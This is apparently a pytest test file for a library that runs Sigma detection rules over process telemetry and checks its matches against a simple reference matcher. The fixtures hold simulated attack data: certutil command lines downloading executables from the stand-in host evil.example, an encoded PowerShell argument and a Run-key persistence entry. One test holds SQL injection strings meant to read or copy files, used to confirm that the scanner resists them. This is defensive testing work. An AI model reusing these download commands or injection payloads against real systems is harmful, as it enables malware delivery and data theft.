"""Sigma rules over a dataset, against a plain matcher that reads rules one value at a time."""

import fnmatch
import ipaddress
import re
import sys

import pandas as pd
import pytest
import yaml

import proclens
from proclens.sigma import scan

HOSTILE = 'it\'s 100%_"x" \\\\srv\\a*b?c [d] \u202eexe.\N{SNOWMAN}'

PROCESSES = [
    # path, args, user, original file name, integrity, parent
    (r"c:\windows\explorer.exe", None, r"corp\ann", "explorer.exe", "Medium", None),
    (r"c:\windows\system32\cmd.exe", "/c whoami /all", r"corp\ann", "Cmd.Exe", "High", 0),
    (r"c:\windows\system32\whoami.exe", "/all", r"corp\ann", "whoami.exe", "High", 1),
    (r"c:\temp\notes.exe", "\u2013urlcache -f http://evil.example/a.exe", r"corp\bob", "CertUtil.exe", "Low", 1),
    (r"c:\windows\system32\certutil.exe", "/urlcache /f HTTP://evil.example/b.exe", r"corp\bob", None, None, 3),
    (r"c:\windows\system32\reg.exe", HOSTILE, r"corp\bob", "reg.exe", "System", None),
    (r"c:\windows\system32\powershell.exe", "-enc aQBlAHgA", r"nt authority\system", "PowerShell.EXE", "System", 5),
    ("system", None, None, None, None, None),
    (r"c:\a%b_c\tool.exe", "aXb", r"corp\o'neil", "tool.exe", "Medium", 0),
]
LOADS = [(1, r"c:\windows\system32\ntdll.dll", True, "Valid"), (3, r"c:\temp\evil.dll", False, None)]
CONNECTIONS = [
    # process, protocol, local address, local port, remote address, remote port
    (3, "tcp", "10.1.2.3", None, "203.0.113.9", 443),
    (4, "tcp", "10.1.2.3", 445, "10.1.9.9", None),
    (6, "tcp", "10.1.2.3", None, "10.200.0.1", 8080),
    (3, "dns", None, None, "evil.example", None),
]
FILES = [(3, r"c:\temp\a.exe", "CREATE"), (4, r"c:\temp\a.exe", "DELETE"), (5, r"c:\temp\b.txt", "READ")]
KEYS = [
    (5, r"hklm\software\microsoft\windows\currentversion\run", "Updater", r"C:\Temp\a.exe", "WRITE"),
    (5, r"hklm\system\a", None, None, "CREATEKEY"),
]


def pid_hash(number):
    return f"{number:032X}"


@pytest.fixture(scope="module")
def telemetry(tmp_path_factory):
    process = pd.DataFrame(
        [
            {
                "pid_hash": pid_hash(number),
                "parent_pid_hash": None if parent is None else pid_hash(parent),
                "hostname": "ws1",
                "os_pid": 100 + number,
                "process_name": path.split("\\")[-1],
                "process_path": path,
                "args": args,
                "user_name": user,
                "original_file_name": original,
                "integrity_level": integrity,
                "file_md5": f"{number:032x}",
            }
            for number, (path, args, user, original, integrity, parent) in enumerate(PROCESSES)
        ]
    )
    load = pd.DataFrame(
        [(pid_hash(p), image, signed, status) for p, image, signed, status in LOADS],
        columns=["pid_hash", "filename", "signed", "signature_status"],
    )
    connection = pd.DataFrame(
        [(pid_hash(p), *rest) for p, *rest in CONNECTIONS],
        columns=["pid_hash", "protocol", "local_ip_addr", "local_port", "remote_ip_addr", "remote_port"],
    ).astype({"local_port": "Int32", "remote_port": "Int32"})
    file = pd.DataFrame([(pid_hash(p), *rest) for p, *rest in FILES], columns=["pid_hash", "filename", "activity_type"])
    key = pd.DataFrame(
        [(pid_hash(p), *rest) for p, *rest in KEYS],
        columns=["pid_hash", "reg_path", "reg_value", "reg_data", "activity_type"],
    )
    return proclens.Dataset.from_tables(
        tmp_path_factory.mktemp("telemetry") / "data",
        process=process,
        process_image_load=load,
        process_net_conn=connection,
        process_file=file,
        process_registry=key,
    )


# The events as Sigma sees them, made from the lists above and not from tables.


def process_event(number):
    path, args, user, original, integrity, parent = PROCESSES[number]
    event = {
        "Image": path if "\\" in path else "\\" + path,
        "CommandLine": path if args is None else f"{path} {args}",
        "User": user,
        "OriginalFileName": original,
        "IntegrityLevel": integrity,
        "ProcessId": str(100 + number),
        "Hashes": f"MD5={number:032X}",
    }
    if parent is not None:
        event |= {f"Parent{name}": process_event(parent)[name] for name in ("Image", "CommandLine", "User")}
    return event


def events(category):
    if category == "process_creation":
        return [(number, process_event(number)) for number in range(len(PROCESSES))]
    if category == "image_load":
        return [
            (p, process_event(p) | {"ImageLoaded": i, "Signed": str(s).lower(), "SignatureStatus": status})
            for p, i, s, status in LOADS
        ]
    if category == "network_connection":
        made = []
        for p, protocol, local, local_port, remote, remote_port in CONNECTIONS[:3]:
            out = remote_port is not None
            made.append(
                (
                    p,
                    process_event(p)
                    | {
                        "Protocol": protocol,
                        "Initiated": str(out).lower(),
                        "DestinationIp": remote if out else local,
                        "DestinationPort": str(remote_port if out else local_port),
                    },
                )
            )
        return made
    if category == "dns_query":
        return [(CONNECTIONS[3][0], process_event(CONNECTIONS[3][0]) | {"QueryName": CONNECTIONS[3][4]})]
    kinds = {"file_event": "CREATE", "file_delete": "DELETE", "file_access": "READ"}
    if category in kinds:
        return [(p, process_event(p) | {"TargetFilename": f}) for p, f, kind in FILES if kind == kinds[category]]
    return [
        (p, process_event(p) | {"TargetObject": "\\".join(filter(None, (path, value))), "Details": data})
        for p, path, value, data, kind in KEYS
        if category == "registry_event" or kind == {"registry_set": "WRITE", "registry_add": "CREATEKEY"}[category]
    ]


# The plain matcher.


def wildcard(pattern, text, before="", after="", cased=False):
    r"""Sigma's wildcards; \* and \? are the characters. A backslash at the end is one, whatever follows it."""
    glob = ""
    at = 0
    while at < len(pattern):
        if pattern[at] == "\\" and pattern[at + 1 : at + 2] in ("*", "?", "\\") and pattern[at + 1 : at + 2]:
            glob += "\\" if pattern[at + 1] == "\\" else f"[{pattern[at + 1]}]"
            at += 2
            continue
        glob += "[[]" if pattern[at] == "[" else pattern[at]
        at += 1
    glob = before + glob + after
    if not cased:
        glob, text = glob.lower(), text.lower()
    return re.fullmatch(fnmatch.translate(glob), text) is not None


def value_matches(value, modifiers, text):
    if "exists" in modifiers:
        return (text is not None) == value
    if value is None:
        return text is None
    if text is None:
        return False
    if "re" in modifiers:
        return re.search(value, text, re.IGNORECASE if "i" in modifiers else 0) is not None
    if "cidr" in modifiers:
        return ipaddress.ip_address(text) in ipaddress.ip_network(value)
    if "gte" in modifiers:
        return text.isdigit() and int(text) >= value
    pattern = str(value).lower() if isinstance(value, bool) else str(value)
    patterns = [pattern]
    if "windash" in modifiers:
        patterns = [pattern.replace("-", dash, 1) for dash in "-/\u2013\u2014\u2015"] if "-" in pattern else patterns
    for one in patterns:
        before = "*" if {"contains", "endswith"} & set(modifiers) else ""
        after = "*" if {"contains", "startswith"} & set(modifiers) else ""
        if wildcard(one, text, before, after, "cased" in modifiers):
            return True
    return False


def selection_matches(selection, event):
    if isinstance(selection, list):
        return any(selection_matches(part, event) for part in selection)
    for key, values in selection.items():
        field, *modifiers = key.split("|")
        values = values if isinstance(values, list) else [values]
        found = [value_matches(value, modifiers, event.get(field)) for value in values]
        if not (all(found) if "all" in modifiers else any(found)):
            return False
    return True


def rule_matches(rule, event):
    detection = rule["detection"]
    found = {name: selection_matches(selection, event) for name, selection in detection.items() if name != "condition"}

    def of(match):
        names = [name for name in found if match[2] == "them" or fnmatch.fnmatch(name, match[2])]
        return str((any if match[1] == "1" else all)(found[name] for name in names))

    condition = re.sub(r"\b(1|all) of (\S+?)(?=\)|\s|$)", of, detection["condition"])
    condition = re.sub(r"\b\w+\b", lambda m: str(found[m[0]]) if m[0] in found else m[0], condition)
    return eval(condition, {})


RULES = r"""
- [process_creation, {s: {Image|endswith: '\cmd.exe'}, condition: s}]
- [process_creation, {s: {Image: ['*\WHOAMI.exe', 'c:\windows\explorer.exe']}, condition: s}]
- [process_creation, {s: {CommandLine|contains|all: ['urlcache', 'http']}, condition: s}]
- [process_creation, {s: {CommandLine|contains|windash: ' -urlcache'}, condition: s}]
- - process_creation
  - img: [{Image|endswith: '\certutil.exe'}, {OriginalFileName: 'certutil.exe'}]
    f: {User|contains: 'ann'}
    condition: img and not f
- [process_creation, {s: {ParentImage|endswith: '\cmd.exe', IntegrityLevel: ['High', 'System']}, condition: s}]
- [process_creation, {s: {ParentCommandLine|contains: 'whoami'}, condition: s}]
- [process_creation, {s: {ParentUser|startswith: 'corp\'}, condition: s}]
- [process_creation, {s: {Image|endswith: .exe}, f: {OriginalFileName|endswith: .exe}, condition: s and not f}]
- [process_creation, {s: {OriginalFileName: null}, condition: s}]
- [process_creation, {s: {OriginalFileName|exists: false}, condition: s}]
- - process_creation
  - {s_a: {User|contains: 'bob'}, s_b: {Image|contains: 'temp'}, t: {Image|contains: 'reg'}, condition: all of s_* or t}
- [process_creation, {s_a: {User|contains: 'bob'}, s_b: {Image|contains: 'temp'}, condition: 1 of s_*}]
- [process_creation, {a: {User|contains: 'bob'}, b: {Image|contains: 'temp'}, condition: all of them}]
- [process_creation, {s: {CommandLine|re: '-enc\s+[A-Za-z0-9+/]{8,}'}, condition: s}]
- [process_creation, {s: {CommandLine|re|i: 'HTTPS?://EVIL'}, condition: s}]
- [process_creation, {s: {CommandLine|cased|contains: 'HTTP'}, condition: s}]
- [process_creation, {s: {CommandLine|contains: "it's 100%_"}, condition: s}]
- [process_creation, {s: {CommandLine|contains: 'a\*b\?c'}, condition: s}]
- [process_creation, {s: {CommandLine|contains: 'a*b?c'}, condition: s}]
- [process_creation, {s: {Image|startswith: 'c:\a%b_c'}, condition: s}]
- [process_creation, {s: {Image|startswith: 'c:\a_b%'}, condition: s}]
- [process_creation, {s: {CommandLine|endswith: 'a?b'}, condition: s}]
- [process_creation, {s: {User|endswith: "o'neil"}, condition: s}]
- [process_creation, {s: {CommandLine|contains: "'; DROP TABLE p; --"}, condition: s}]
- [process_creation, {s: {CommandLine|contains: '[d]'}, condition: s}]
- [process_creation, {s: {CommandLine|contains: "\u2603"}, condition: s}]
- [process_creation, {s: {ProcessId: 104}, condition: s}]
- [process_creation, {s: {ProcessId|gte: 106}, condition: s}]
- [process_creation, {s: {Hashes|contains: 'MD5=00000000000000000000000000000003'}, condition: s}]
- [process_creation, {s: {Image|endswith: '\system'}, condition: s}]
- [image_load, {s: {ImageLoaded|endswith: .dll, Signed: false}, condition: s}]
- [image_load, {s: {ImageLoaded|contains: system32}, f: {SignatureStatus: Valid}, condition: s and not f}]
- [image_load, {s: {ImageLoaded|contains: temp}, f: {SignatureStatus: Valid}, condition: s and not f}]
- [network_connection, {s: {DestinationIp|cidr: 10.0.0.0/8}, condition: s}]
- [network_connection, {s: {DestinationIp|cidr: [10.1.0.0/20, 203.0.113.8/30]}, condition: s}]
- [network_connection, {s: {Initiated: true, DestinationPort: [443, 8080]}, condition: s}]
- [network_connection, {s: {Initiated: 'false', DestinationPort: 445}, condition: s}]
- [dns_query, {s: {QueryName|endswith: .example}, condition: s}]
- [file_event, {s: {TargetFilename|endswith: .exe}, condition: s}]
- [file_delete, {s: {TargetFilename|endswith: .exe}, condition: s}]
- [file_access, {s: {TargetFilename|startswith: 'C:\Temp\'}, condition: s}]
- [registry_set, {s: {TargetObject|contains: '\CurrentVersion\Run\', Details|contains: temp}, condition: s}]
- [registry_add, {s: {TargetObject|startswith: 'HKLM\System'}, condition: s}]
- [registry_event, {s: {TargetObject|startswith: hklm}, condition: s}]
"""


def rule_of(number, category, detection, **more):
    return {
        "title": f"rule {number:02}",
        "id": f"00000000-0000-4000-8000-{number:012}",
        "logsource": {"category": category, "product": "windows"},
        "detection": detection,
        "level": "high",
        "tags": ["attack.credential-access", "attack.t1003"],
        **more,
    }


def write_rules(folder, rules):
    folder.mkdir(parents=True)
    for rule in rules:
        (folder / f"{rule['title'].replace(' ', '_')}.yml").write_text(
            yaml.safe_dump(rule, allow_unicode=True), "utf-8"
        )
    return folder


def test_rules_hit_what_a_plain_matcher_finds(telemetry, tmp_path):
    rules = [rule_of(n, category, detection) for n, (category, detection) in enumerate(yaml.safe_load(RULES))]
    result = scan(telemetry, write_rules(tmp_path / "rules", rules), out=tmp_path / "labels.parquet")
    assert [rule.status for rule in result.rules] == ["ran"] * len(rules), [r.reason for r in result.rules if r.reason]
    labels = result.labels.to_pandas()
    hit_by_any = 0
    for rule, outcome in zip(rules, result.rules, strict=True):
        expected = {pid_hash(p) for p, event in events(rule["logsource"]["category"]) if rule_matches(rule, event)}
        found = set(labels.loc[labels.analytic_id == rule["title"], "entity"])
        assert found == expected, rule
        assert outcome.processes == len(expected)
        hit_by_any += bool(expected)
    assert hit_by_any > 35
    assert set(labels.severity) == {"high"}
    assert set(labels.tactic) == {"credential access"}
    assert set(labels.rule_id) <= {rule["id"] for rule in rules}


def test_every_file_is_accounted_for(telemetry, tmp_path):
    selection = {"s": {"Image|endswith": ".exe"}, "condition": "s"}
    folder = write_rules(
        tmp_path / "rules",
        [
            rule_of(1, "process_creation", selection),
            rule_of(2, "process_creation", {"s": {"Description": "x"}, "condition": "s"}),
            rule_of(3, "process_creation", {"s": [{"Description": "x"}, {"Image|endswith": ".exe"}], "condition": "s"}),
            rule_of(
                4,
                "process_creation",
                {"s": {"Image|endswith": ".exe"}, "f": {"Nothing": 1}, "condition": "s and not f"},
            ),
            rule_of(5, "ps_script", {"s": {"ScriptBlockText": "x"}, "condition": "s"}),
            rule_of(6, "process_creation", selection, logsource={"category": "process_creation", "product": "linux"}),
            rule_of(7, "process_creation", {"s": {"CommandLine|re": "(?=x)y"}, "condition": "s"}),
            rule_of(8, "process_creation", {"s": {"Image": "x"}, "condition": "s and"}),
            rule_of(9, "process_creation", selection, logsource={"product": "windows", "service": "security"}),
        ],
    )
    (folder / "rule_10.yml").write_text("a: &a [x, x]\nb: [*a, *a]\n")
    (folder / "rule_11.yml").write_text("title: [")
    (folder / "rule_12.yml").write_text("[" * 100 + "]" * 100)
    (folder / "rule_13.yml").write_bytes(b"\xff\xfe\x00")
    (folder / "rule_14.yml").write_text("title: all\ncorrelation: {type: event_count}\n")
    (folder / "rule_15.yml").write_text("just text")
    (folder / "notes.txt").write_text("no rule")
    result = scan(telemetry, folder, out=tmp_path / "labels.parquet")
    by_path = {rule.path: rule for rule in result.rules}
    assert len(by_path) == 15
    status = {int(path[5:7]): rule.status for path, rule in by_path.items()}
    assert status == {1: "ran", 2: "lacks fields", 3: "ran", 4: "ran", 5: "other", 6: "other", 7: "unusable"} | {
        8: "unusable",
        9: "other",
    } | dict.fromkeys(range(10, 16), "unusable")
    assert by_path["rule_02.yml"].missing == ("Description",)
    assert by_path["rule_03.yml"].missing == ("Description",)
    assert by_path["rule_04.yml"].processes == by_path["rule_01.yml"].processes == 8
    assert all(rule.reason for rule in result.rules if rule.status != "ran")
    assert "aliases" in by_path["rule_10.yml"].reason
    assert result.lacking == {"Description": 1}
    assert result.summary["ran"] == 3
    assert [rule.path for rule in result.hits()] == ["rule_01.yml", "rule_03.yml", "rule_04.yml"]


def test_a_missing_table_is_named(tmp_path):
    process = pd.DataFrame({"pid_hash": ["A"], "process_name": ["a.exe"]})
    dataset = proclens.Dataset.from_tables(tmp_path / "data", process=process)
    rules = [
        rule_of(1, "image_load", {"s": {"ImageLoaded": "x"}, "condition": "s"}),
        rule_of(2, "process_creation", {"s": {"Image|endswith": "\\a.exe"}, "condition": "s"}),
        rule_of(3, "process_creation", {"s": {"CommandLine|contains": "x"}, "condition": "not s"}),
    ]
    result = scan(dataset, write_rules(tmp_path / "rules", rules))
    assert [rule.status for rule in result.rules] == ["lacks fields", "ran", "ran"]
    assert result.lacking == {"process_image_load": 1}
    assert result.labels.path == tmp_path / "data" / "sigma_labels.parquet"


def test_rules_cannot_read_files_or_change_settings(telemetry, tmp_path):
    (tmp_path / "secret.csv").write_text("a\n1\n")
    attacks = [
        "x' OR EXISTS (SELECT * FROM read_csv('{}')) --".format(tmp_path / "secret.csv"),
        "x'); COPY p TO '{}'; --".format(tmp_path / "stolen.csv"),
        "' OR 1=1 --",
        "\\' OR 1=1 --",
        "x\\",
    ]
    modifiers = ["contains", "startswith", "endswith", "re", "cased", "contains|windash", "base64offset|contains"]
    rules = [
        rule_of(n, "process_creation", {"s": {f"CommandLine|{modifier}": attack}, "condition": "s"})
        for n, (attack, modifier) in enumerate((a, m) for a in attacks for m in modifiers)
    ]
    rules.append(rule_of(90, "process_creation", {"s": {'Image" OR 1=1 --': "x"}, "condition": "s"}))
    result = scan(telemetry, write_rules(tmp_path / "rules", rules), out=tmp_path / "labels.parquet")
    assert sum(rule.processes for rule in result.rules) == 0
    assert not (tmp_path / "stolen.csv").exists()
    assert {rule.status for rule in result.rules} <= {"ran", "unusable", "lacks fields"}


def test_labels_are_not_replaced_unasked(tmp_path):
    process = pd.DataFrame({"pid_hash": ["A"], "process_name": ["a.exe"]})
    dataset = proclens.Dataset.from_tables(tmp_path / "data", process=process)
    rules = write_rules(tmp_path / "rules", [rule_of(1, "process_creation", {"s": {"Image": "x"}, "condition": "s"})])
    scan(dataset, rules)
    with pytest.raises(FileExistsError, match="overwrite=True"):
        scan(dataset, rules)
    assert len(scan(dataset, rules, overwrite=True).labels.to_pandas()) == 0


def test_a_hunt_shows_what_rules_say(tmp_path):
    office = proclens.demo(tmp_path / "office", processes=3000)
    detection = {"s": {"ParentImage|endswith": r"\services.exe", "Image|endswith": r"\svchost.exe"}, "condition": "s"}
    rule = rule_of(1, "process_creation", detection, title="Services start svchost")
    (hit,) = scan(office, write_rules(tmp_path / "rules", [rule])).hits()
    processes = office.hunt(keep_sensors=True).processes.to_pandas()
    labelled = processes[processes.labels.map(len) > 0]
    assert len(labelled) == hit.processes > 0
    assert set(labelled.process_name) == {"svchost.exe"}


def test_no_rules_is_an_error(telemetry, tmp_path):
    (tmp_path / "empty").mkdir()
    with pytest.raises(ValueError, match="holds no rules"):
        scan(telemetry, tmp_path / "empty", out=tmp_path / "labels.parquet")
    with pytest.raises(ValueError, match="does not exist"):
        scan(telemetry, tmp_path / "gone", out=tmp_path / "labels.parquet")


def test_what_is_not_installed_is_named(telemetry, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "duckdb", None)
    with pytest.raises(ImportError, match=r"proclens\[sigma\]"):
        scan(telemetry, tmp_path, out=tmp_path / "labels.parquet")
